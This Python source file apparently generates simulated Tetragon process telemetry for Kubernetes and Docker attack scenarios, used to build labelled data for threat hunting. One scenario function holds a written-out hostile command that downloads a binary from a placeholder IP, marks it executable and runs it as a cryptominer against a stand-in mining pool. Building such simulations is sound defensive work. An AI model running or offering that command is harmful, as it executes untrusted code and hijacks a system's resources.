"""Tetragon records for ``simulate``: what the nodes' process telemetry sees of each story (docs/node.md).

The node view is derived from the k8s-audit world and the Docker host of the same seed, so a hunt over
``k8s-audit.jsonl`` (or ``docker-events.jsonl``) and ``tetragon.jsonl`` can join them: every allowed
pods/exec and kubelet exec or run through the API server becomes the process it started in the pod
(not in the container's init tree, parent ``runc exec``) and the commands a ``sh -c`` script runs;
every Docker exec the same on the Docker host. What only the node sees: Hildegard's call to the
kubelet's own port (:10250) that the API server never logged, exec probes the kubelet runs through
the CRI (Tetragon marks them ``maybe_exec_probe``), and processes of the containers' own trees. Node
clocks are set a little off the API server's (``NODE_SKEW``), as real ones are.
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import parse_qsl, urlsplit

from .ops import DockerExec, K8sOp, Label, Op, benign, rfc3339

NODE_SKEW = (-1.2, 0.4, 0.9, -0.3)  # seconds each node's clock is off the API server's (within --join-skew)
DOCKER_HOST = "docker-host-1"
PROBE_PERIOD = 10.0
PROBES = [
    ("postgres-0", ["pg_isready", "-U", "postgres"]),
    ("cart-", ["cat", "/tmp/healthy"]),
    ("grafana-", ["wget", "-q", "-O-", "localhost:3000/api/health"]),
]
PATHS = {"sh": "/bin/sh", "bash": "/bin/bash", "cat": "/bin/cat", "ls": "/bin/ls", "echo": "/bin/echo", "base64": "/usr/bin/base64",
         "curl": "/usr/bin/curl", "wget": "/usr/bin/wget", "chmod": "/bin/chmod", "id": "/usr/bin/id", "env": "/usr/bin/env"}


@dataclass(slots=True)
class ProcOp:
    label: Label
    t: float
    group: str  # the exec it belongs to: one attack event
    node: str
    container_id: str
    container: str
    image: str
    argv: list[str]
    pid: int
    ppid: int
    parent: list[str]  # the parent's argv
    in_init_tree: bool
    namespace: str | None = None
    pod: str | None = None
    probe: bool = False


def cid(*parts: str) -> str:
    return hashlib.sha256("/".join(parts).encode()).hexdigest()


class NodeWorld:
    """Pids and runc parents for the processes of one simulation."""

    def __init__(self, rng: random.Random, cluster: Any) -> None:
        self.rng = rng
        self.cluster = cluster
        self.pid = 20000
        self.nodes = list(cluster.nodes) if cluster is not None else []

    def next_pid(self) -> int:
        self.pid += self.rng.randint(3, 40)
        return self.pid

    def skew(self, node: str) -> float:
        return NODE_SKEW[self.nodes.index(node) % len(NODE_SKEW)] if node in self.nodes else 0.0

    def session(self, label: Label, t: float, group: str, where: dict[str, Any], argv: list[str], probe: bool = False) -> list[ProcOp]:
        """The exec'd process (parent `runc exec`) and, for `sh -c SCRIPT`, the commands of the script."""
        runc = self.next_pid()
        ns_dir = "k8s.io" if where.get("namespace") else "moby"
        parent = ["/usr/bin/runc", "--root", f"/run/containerd/runc/{ns_dir}", "exec", "--process",
                  f"/tmp/runc-process{self.rng.randint(10**8, 10**9)}", "--detach", where["container_id"]]
        t += self.rng.uniform(0.05, 0.3) + self.skew(where["node"])
        shell = self.next_pid()
        out = [ProcOp(label, t, group, argv=[PATHS.get(argv[0], argv[0]), *argv[1:]], pid=shell, ppid=runc, parent=parent,
                      in_init_tree=False, probe=probe, **where)]
        if len(argv) >= 3 and argv[0] in ("sh", "bash") and argv[1] == "-c":
            for i, words in enumerate(_script(argv[2])):
                out.append(ProcOp(label, t + 0.01 * (i + 1), group, argv=[PATHS.get(words[0], words[0]), *words[1:]],
                                  pid=self.next_pid(), ppid=shell, parent=out[0].argv, in_init_tree=False, **where))
        return out

    def pod_where(self, ns: str, name: str, container: str | None) -> dict[str, Any] | None:
        pod = next((p for p in self.cluster.pods if p.namespace == ns and p.name == name), None)
        if pod is None or pod.windows:
            return None  # Tetragon runs on Linux nodes only
        ctr = container or pod.containers[0]
        return {"node": pod.node, "container_id": cid(ns, name, ctr), "container": ctr, "image": pod.image, "namespace": ns, "pod": name}


def _script(script: str) -> list[list[str]]:
    """The simple commands of a shell script, as the node would see them exec'd (good enough for a simulation)."""
    out: list[list[str]] = []
    for sep in ("&&", "||", ";", "|", "&"):
        script = script.replace(sep, "\n")
    for piece in script.split("\n"):
        words = piece.split()
        if words and words[0] not in ("if", "then", "else", "fi", "elif", "exec"):
            out.append(words)
    return out[:8]


def from_k8s(world: NodeWorld, ops: Iterator[Op], span: float, hildegard: bool) -> Iterator[ProcOp]:
    """Processes for the execs of one k8s-audit stream, plus what only the node sees."""
    extra: list[ProcOp] = []
    if world.cluster is not None:
        extra += _probes(world, span) + _entrypoints(world, span)
    for op in ops:
        if not isinstance(op, K8sOp):
            continue
        found = _exec_of(op)
        if found is None:
            continue
        (ns, name, container), argv = found
        where = world.pod_where(ns, name, container)
        if where is None:
            continue
        yield from world.session(op.label, op.t, str(op.event["auditID"]), where, argv)
        if hildegard and op.label.scenario == "hildegard" and op.label.step == "kubelet run tmate":
            hildegard = False
            extra += _kubelet_direct(world, op.t + 240.0)
    yield from sorted(extra, key=lambda p: p.t)


def _exec_of(op: K8sOp) -> tuple[tuple[str, str, str | None], list[str]] | None:
    ev = op.event
    code = int(ev.get("responseStatus", {}).get("code", 0))
    ref = ev.get("objectRef", {})
    if code not in (101, 200):
        return None
    uri = urlsplit(str(ev["requestURI"]))
    params = parse_qsl(uri.query)
    if ref.get("resource") == "pods" and ref.get("subresource") == "exec":
        argv = [v for k, v in params if k == "command"]
        container = next((v for k, v in params if k == "container"), None)
        return ((ref["namespace"], ref["name"], container), argv) if argv else None
    if ref.get("resource") == "nodes" and ref.get("subresource") == "proxy":
        parts = uri.path.split("/proxy/", 1)[-1].split("/")
        if len(parts) >= 4 and parts[0] in ("run", "exec"):
            argv = [w for k, v in params if k == "cmd" for w in v.split()] or [v for k, v in params if k == "command"]
            return ((parts[1], parts[2], parts[3]), argv) if argv else None
    return None


def _kubelet_direct(world: NodeWorld, t: float) -> list[ProcOp]:
    """Hildegard on the kubelet's own port: a runtime exec the API server never saw (in a sidecar nobody execs into)."""
    pod = world.cluster.pod("prometheus-k8s-0")
    where = world.pod_where(pod.namespace, pod.name, pod.containers[1])
    assert where is not None
    label = Label(True, "hildegard", "S0601", "kubelet :10250 run (no audit record)")
    script = "curl -s http://198.51.100.77/ziggy -o /var/tmp/ziggy && chmod +x /var/tmp/ziggy && /var/tmp/ziggy -o stratum+tcp://pool.example.net:3333"
    return world.session(label, t, f"kubelet-direct:{pod.name}", where, ["sh", "-c", script])


def _probes(world: NodeWorld, span: float) -> list[ProcOp]:
    """Exec probes: the kubelet runs them through the CRI, never the API server; Tetragon flags them."""
    out: list[ProcOp] = []
    for prefix, argv in PROBES:
        pod = next((p for p in world.cluster.pods if p.name.startswith(prefix)), None)
        if pod is None:
            continue
        where = world.pod_where(pod.namespace, pod.name, None)
        assert where is not None
        t = world.rng.uniform(0, PROBE_PERIOD)
        while t < span:
            out += world.session(benign("exec probe"), t, f"probe:{pod.name}:{t:.3f}", where, argv, probe=True)
            t += PROBE_PERIOD
    return out


def _entrypoints(world: NodeWorld, span: float) -> list[ProcOp]:
    """Work the containers' own processes do (in the init tree): never an exec."""
    out: list[ProcOp] = []
    for pod in world.cluster.pods[:12]:
        where = world.pod_where(pod.namespace, pod.name, None)
        if where is None:
            continue
        t = world.rng.uniform(0, span)
        argv = ["/bin/sh", "-c", "date >> /tmp/heartbeat"]
        out.append(ProcOp(benign("container's own process"), t, f"tree:{pod.name}:{t:.3f}", argv=argv,
                          pid=world.next_pid(), ppid=1, parent=["/usr/local/bin/entrypoint"], in_init_tree=True, **where))
    return out


def from_docker(world: NodeWorld, ops: Iterator[Op]) -> Iterator[ProcOp]:
    for op in ops:
        if isinstance(op, DockerExec):
            c = op.container
            where = {"node": DOCKER_HOST, "container_id": c.id, "container": c.name, "image": c.image}
            yield from world.session(op.label, op.t, op.exec_id, where, op.cmd)


def records(op: ProcOp) -> list[tuple[list[str], Label, str | None]]:
    """One `tetra getevents -o json` line: a process_exec."""
    exec_id = base64.b64encode(f"{op.node}:{op.pid * 7919}:{op.pid}".encode()).decode()
    parent_id = base64.b64encode(f"{op.node}:{op.ppid * 7919}:{op.ppid}".encode()).decode()
    start = rfc3339(op.t, 9)
    proc: dict[str, Any] = {
        "exec_id": exec_id, "pid": op.pid, "uid": 0, "cwd": "/", "binary": op.argv[0], "arguments": _join(op.argv[1:]),
        "flags": "execve rootcwd clone", "start_time": start, "auid": 4294967295,
    }
    if op.pod:
        container: dict[str, Any] = {"id": f"containerd://{op.container_id}", "name": op.container,
                                     "image": {"id": f"{op.image}@sha256:{cid(op.image)}", "name": op.image},
                                     "start_time": "2026-03-02T07:00:00Z", "pid": 40 + op.pid % 50}
        if op.probe:
            container["maybe_exec_probe"] = True
        proc["pod"] = {"namespace": op.namespace, "name": op.pod, "container": container,
                       "pod_labels": {"app": op.pod.rsplit("-", 2)[0]}, "workload": op.pod.rsplit("-", 2)[0]}
    proc.update({"docker": op.container_id[:31], "parent_exec_id": parent_id, "refcnt": 1, "tid": op.pid, "in_init_tree": op.in_init_tree})
    parent = {"exec_id": parent_id, "pid": op.ppid, "uid": 0, "cwd": "/", "binary": op.parent[0], "arguments": _join(op.parent[1:]),
              "flags": "execve clone", "start_time": start, "auid": 4294967295}
    rec = {"process_exec": {"process": proc, "parent": parent}, "node_name": op.node, "time": start}
    return [([json.dumps(rec, separators=(",", ":"))], op.label, op.group)]


def _join(args: list[str]) -> str:
    """Tetragon's own join: spaces, and double quotes around an argument holding a space."""
    out = ""
    for a in args:  # as pkg/process ArgsDecoder builds it: a quoted argument always gets a space before it
        out = out + f' "{a}"' if " " in a else (a if not out else f"{out} {a}")
    return out
